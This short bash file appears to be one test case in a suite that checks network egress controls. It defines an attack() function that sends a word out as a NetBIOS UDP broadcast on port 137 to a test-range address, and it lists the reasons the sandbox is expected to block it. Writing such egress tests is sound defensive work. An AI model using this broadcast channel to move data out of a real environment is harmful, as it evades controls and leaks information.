# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A word in a NetBIOS broadcast' origin='RESEARCH §2.44'
sink=g reason='link_local_names|udp_not_allowed|not_resolved' forms=output
attack() { tool sockets.py multicast "$1" 137 198.18.1.255; }
